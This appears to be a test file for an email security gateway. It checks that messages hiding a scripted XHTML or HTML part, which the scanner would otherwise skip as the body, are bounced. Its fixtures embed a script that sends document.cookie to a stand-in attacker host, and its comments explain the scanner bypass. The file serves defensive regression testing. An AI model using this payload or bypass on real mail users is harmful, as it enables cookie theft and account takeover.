import { describe, expect, it } from 'vitest';
import { attackerKit } from './attacker-kit.js';
import { useLocalStack } from './stack.js';

// A44-1: an unnamed `application/xhtml+xml` (or XML) part that is the message's first or only part is taken by
// markupScanFor as "the message body" (not named, not attached, not laterInMixed) and never scanned. But no mail
// client renders application/xhtml+xml as a message body: Thunderbird lists it as an attachment (an external
// object, every application/* type), Outlook as ATT00001.xht/.xml; opened, the browser runs its <script>.
// Only text/html bodies are rendered in place by clients (without scripts). Delivered DEFAULT today.
const stack = useLocalStack();
const kit = attackerKit(stack);
const HEAD = [
  'From: Billing <billing@evil.example>',
  'To: bob@corp.example',
  'Subject: Invoice',
  'Date: Tue, 24 Nov 2026 09:15:02 +0000',
  'Message-ID: <g1@evil.example>',
  'MIME-Version: 1.0',
].join('\r\n');
const XPAGE =
  '<?xml version="1.0"?>\r\n<html xmlns="http://www.w3.org/1999/xhtml"><body><p>Invoice</p><script>location="https://evil.example/?"+document.cookie</script></body></html>\r\n';
const CASES: Record<string, string> = {
  'the only part, application/xhtml+xml': `Content-Type: application/xhtml+xml\r\n\r\n${XPAGE}`,
  'the only part, application/xhtml+xml in base64': `Content-Type: application/xhtml+xml\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.from(XPAGE).toString('base64')}\r\n`,
  'first part of a mixed, application/xhtml+xml': `Content-Type: multipart/mixed; boundary=q\r\n\r\n--q\r\nContent-Type: application/xhtml+xml\r\n\r\n${XPAGE}--q\r\nContent-Type: text/plain\r\n\r\nsee the invoice\r\n--q--\r\n`,
  'the only part, application/xml (XHTML root)': `Content-Type: application/xml\r\n\r\n${XPAGE}`,
};
describe('A44-1: an unnamed XHTML page as the first part', () => {
  for (const [title, tail] of Object.entries(CASES)) {
    it(`refuses ${title}`, async () => {
      const { verdict } = await kit.inbound(Buffer.from(`${HEAD}\r\n${tail}`));
      expect(verdict).toBe('BOUNCE');
    });
  }
  it('control: the same page attached (Content-Disposition: attachment) is refused', async () => {
    const { verdict } = await kit.inbound(
      Buffer.from(
        `${HEAD}\r\nContent-Type: application/xhtml+xml\r\nContent-Disposition: attachment\r\n\r\n${XPAGE}`,
      ),
    );
    expect(verdict).toBe('BOUNCE');
  });
});

// A44-1b: multipart/related with `start=` naming its second part as the root: clients that honour `start`
// (Thunderbird's mimemrel, RFC 2387) render the second part and treat the first, an unreferenced HTML part, as a
// resource/attachment; laterInMixed calls the first child of a related the page (body) and does not scan it.
describe('A44-1b: the first part of a related whose start= names another root', () => {
  it('refuses an unnamed scripted HTML part that is not the root', async () => {
    const PAGE =
      '<html><body><script>location="https://evil.example/?"+document.cookie</script></body></html>\r\n';
    const tail =
      'Content-Type: multipart/related; type="text/html"; start="<p2@x>"; boundary=q\r\n\r\n' +
      `--q\r\nContent-Type: text/html\r\nContent-ID: <p1@x>\r\n\r\n${PAGE}` +
      '--q\r\nContent-Type: text/html\r\nContent-ID: <p2@x>\r\n\r\n<p>Please see the attached invoice.</p>\r\n--q--\r\n';
    const { verdict } = await kit.inbound(Buffer.from(`${HEAD}\r\n${tail}`));
    expect(verdict).toBe('BOUNCE');
  });
});
